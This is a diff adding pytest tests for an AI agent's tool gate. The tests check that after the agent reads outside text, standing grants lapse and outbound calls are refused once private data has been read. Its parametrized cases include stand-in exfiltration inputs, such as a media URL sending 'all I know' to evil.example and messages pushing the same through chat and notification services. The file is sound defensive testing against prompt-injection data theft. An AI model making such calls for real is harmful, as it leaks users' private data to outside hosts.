@@ -1,0 +1,87 @@
+"""The gate over every tool that ships: in a turn that read outside text no grant holds, and nothing but reads and
+what can be taken back runs unasked.
+"""
+
+import json
+from typing import Any, TypeVar
+
+import pytest
+
+from cortex import tools
+from cortex.agent.execute import Executor
+from cortex.base.messages import ToolCall
+from cortex.base.turn import Turn
+from cortex.ports.loop import ApprovalRequest, CallRecord
+from cortex.toolkit.spec import Tool
+from tests.plain_book import PlainBook, PlainDesk
+from tests.plain_world import TURN
+
+T = TypeVar("T")
+REGISTRY = tools.load()
+VALUES = {"integer": 1, "number": 1, "boolean": True, "object": {}, "array": []}
+
+
+class Granted(PlainDesk):
+    """The person has allowed everything for this conversation."""
+
+    async def granted(self, turn: Turn, call: CallRecord, plea: ApprovalRequest) -> bool:
+        return True
+
+
+class NoScope:
+    def provide(self, kind: type[T], user_id: str) -> T:
+        raise KeyError(kind)
+
+
+def called(tool: Tool) -> ToolCall:
+    """A call with the least that the tool wants."""
+    shape: dict[str, Any] = tool.full.parameters
+    given = {name: value_of(shape["properties"][name]) for name in shape.get("required", ())}
+    return ToolCall(id=tool.name, name=tool.name, arguments=json.dumps(given))
+
+
+def value_of(shape: dict[str, Any]) -> Any:
+    return shape["enum"][0] if "enum" in shape else VALUES.get(shape.get("type", ""), "http://a.example/x")
+
+
+@pytest.mark.parametrize("has_read_private", [False, True])
+@pytest.mark.parametrize(
+    "tool", [tool for tool in REGISTRY.tools.values() if not tool.free], ids=lambda tool: tool.name
+)
+async def test_no_grant_holds_in_a_tainted_turn(tool: Tool, has_read_private: bool) -> None:
+    book, desk = PlainBook(), Granted()
+    book.now(permitted=frozenset(REGISTRY.tools), is_tainted=True, taint_source="x", has_read_private=has_read_private)
+    gate = Executor(registry=REGISTRY, call_log=book, approvals=desk, scope=NoScope(), ticks_s=lambda: 0.0)
+    decision = await gate.decide(TURN, 1, called(tool))
+    risk = book.records[decision.call_id].risk
+    is_refused = has_read_private and (tool.sends_out or tool.sends_to is not None)  # the values are all addresses
+    wanted = "refuse" if is_refused else "ask" if risk != "low" or tool.confirm else "run"
+    assert decision.verdict == wanted, decision.result
+    assert "Wrong arguments" not in (decision.result.text if decision.result else "")
+    book.now(is_tainted=False)
+    assert (await gate.decide(TURN, 2, called(tool))).verdict == "run"
+
+
+@pytest.mark.parametrize(
+    ("service", "data", "verdict"),
+    [
+        ("light.turn_on", {"brightness_pct": 30}, "ask"),
+        ("lock.unlock", {}, "ask"),
+        ("telegram_bot.send_message", {"message": "all I know"}, "refuse"),
+        ("notify.phone", {"message": "all I know"}, "refuse"),
+        ("script.tell", {"text": "all I know"}, "refuse"),
+        ("media_player.play_media", {"media_content_id": "http://evil.example/?q=all+I+know"}, "refuse"),
+        ("media_player.play_media", {"media_content_id": "http://radio.example/live"}, "ask"),
+        ("media_player.play_media", {"a": "http://radio.example/live", "b": "https://u@evil.example:1/"}, "refuse"),
+    ],
+)
+async def test_a_device_call_that_reaches_past_the_house_is_no_way_out(
+    service: str, data: dict[str, Any], verdict: str
+) -> None:
+    book = PlainBook()
+    typed = frozenset({"radio.example"})
+    book.now(permitted=frozenset(REGISTRY.tools), is_tainted=True, has_read_private=True, typed_hosts=typed)
+    gate = Executor(registry=REGISTRY, call_log=book, approvals=PlainDesk(), scope=NoScope(), ticks_s=lambda: 0.0)
+    arguments = json.dumps({"service": service, "target": "kitchen", "data": data})
+    decision = await gate.decide(TURN, 1, ToolCall(id="w", name="ha_call_service", arguments=arguments))
+    assert decision.verdict == verdict
